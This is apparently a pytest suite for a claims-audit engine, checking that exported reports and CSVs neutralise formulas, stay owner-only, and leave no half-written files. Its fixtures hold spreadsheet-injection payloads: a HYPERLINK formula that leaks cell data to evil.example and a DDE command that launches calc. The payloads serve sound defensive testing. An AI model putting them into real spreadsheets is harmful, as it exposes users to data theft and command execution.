"""Text from outside (claim data, names, comments) never runs in a spreadsheet, never breaks a
report, and what leaves the machine is owner-only and never left half-written."""

import csv
import stat
import zipfile

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from engine.cells import csv_text
from engine.errors import UserError
from engine.files import TEMP_PREFIX
from engine.findings import list_findings
from engine.ingest import export_package, import_package
from engine.reports import write_report
from engine.review import decide
from engine.rules import run_audit
from engine.workspace import Workspace

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"click")'
DDE = "=cmd|' /C calc'!A0"
LONG_NAME = "很长的机构名称" + "X" * 30_000  # no place to break a line


@pytest.fixture
def hostile(tmp_path, package, plugins):
    """The sample with a formula and a control character in an institution's name, a DDE
    payload in an item name, a 30,000-character name, reviewed with formula-like text."""
    institutions = package / "reference" / "institutions.csv"
    text = institutions.read_text(encoding="utf-8")
    text = text.replace("市第一人民医院", '"' + FORMULA.replace('"', '""') + '\x07"')
    text = text.replace("市中医院", LONG_NAME)
    institutions.write_text(text, encoding="utf-8")
    lines = package / "lines.csv"
    text = lines.read_text(encoding="utf-8").replace("小儿氨酚黄那敏颗粒", DDE)
    lines.write_text(text.replace("X线计算机体层(CT)平扫", LONG_NAME), encoding="utf-8")
    ws = Workspace.open(tmp_path / "hostile.yibao")
    import_package(ws, package)
    run_audit(ws, plugins=plugins)
    findings = {f["code"]: f for f in list_findings(ws)}
    child = findings["GZ10000101007000"]["finding_id"]
    decide(ws, [child], "dismiss", reviewer="@SUM(1+1)\x01", comment="-2+3\tcmd")
    yield ws
    ws.close()


def test_no_text_cell_of_the_workbook_is_a_formula(hostile, plugins, tmp_path):
    out = tmp_path / "r.xlsx"
    write_report(hostile, out, plugins=plugins)
    with zipfile.ZipFile(out) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name), name
    values = {
        v
        for sheet in load_workbook(out).worksheets
        for row in sheet.iter_rows(values_only=True)
        for v in row
        if isinstance(v, str)
    }
    assert FORMULA + "\ufffd" in values  # kept as text, the bell shown as U+FFFD
    assert DDE in values and "@SUM(1+1)\ufffd" in values and "-2+3\tcmd" in values


def test_a_30000_character_name_still_makes_the_pdf(hostile, plugins, tmp_path):
    out = tmp_path / "r.pdf"
    write_report(hostile, out, plugins=plugins)
    text = "".join(page.extract_text() for page in PdfReader(out).pages)
    assert "很长的机构名称" in text and "X线计算机体层" not in text


def test_csv_export_defuses_formulas_unless_raw(hostile, tmp_path):
    export_package(hostile, tmp_path / "safe")
    export_package(hostile, tmp_path / "raw", raw=True)

    def cells(folder):
        with open(folder / "lines.csv", encoding="utf-8", newline="") as handle:
            return [c for row in csv.reader(handle) for c in row]

    safe, raw = cells(tmp_path / "safe"), cells(tmp_path / "raw")
    assert "'" + DDE in safe and DDE not in safe
    assert DDE in raw
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in safe)
    names = (tmp_path / "safe" / "reference" / "institutions.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in names


@pytest.mark.parametrize(
    "cell,shown",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),  # a number is data
        ("+3", "+3"),
        ("阿莫西林", "阿莫西林"),
    ],
)
def test_csv_text(cell, shown):
    assert csv_text(cell) == shown


def _mode(path):
    return stat.S_IMODE(path.stat().st_mode)


def test_reports_exports_and_workspaces_are_owner_only(hostile, plugins, tmp_path):
    for name in ("r.xlsx", "r.pdf"):
        write_report(hostile, tmp_path / name, plugins=plugins)
        assert _mode(tmp_path / name) == 0o600, name
    export_package(hostile, tmp_path / "out")
    assert _mode(tmp_path / "out") == 0o700
    for path in (tmp_path / "out").rglob("*"):
        assert _mode(path) == (0o700 if path.is_dir() else 0o600), path
    assert _mode(hostile.path) == 0o600
    for suffix in ("-wal", "-shm"):
        side = hostile.path.with_name(hostile.path.name + suffix)
        if side.exists():
            assert _mode(side) == 0o600, side


def test_export_to_an_existing_file_or_folder_is_a_clear_error(hostile, tmp_path):
    (tmp_path / "taken.csv").write_text("mine", encoding="utf-8")
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "claims.csv").write_text("mine", encoding="utf-8")
    for out in ("taken.csv", "full"):
        with pytest.raises(UserError, match="already exists"):
            export_package(hostile, tmp_path / out)
    assert (tmp_path / "taken.csv").read_text(encoding="utf-8") == "mine"
    assert (tmp_path / "full" / "claims.csv").read_text(encoding="utf-8") == "mine"


def test_an_interrupted_report_or_export_leaves_no_temporary_file(
    hostile, plugins, tmp_path, monkeypatch
):
    stale = tmp_path / f"{TEMP_PREFIX}killed.xlsx"  # what a writer killed with -9 left
    stale.write_bytes(b"patient data")

    def killed(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr("engine.reports.xlsx.write_xlsx", killed)
    monkeypatch.setattr("engine.ingest.export._write_table", killed)
    with pytest.raises(KeyboardInterrupt):
        write_report(hostile, tmp_path / "r.xlsx", plugins=plugins)
    with pytest.raises(KeyboardInterrupt):
        export_package(hostile, tmp_path / "out")
    left = sorted(p.name for p in tmp_path.iterdir())
    assert [n for n in left if n.startswith(".") or n in ("r.xlsx", "out")] == []
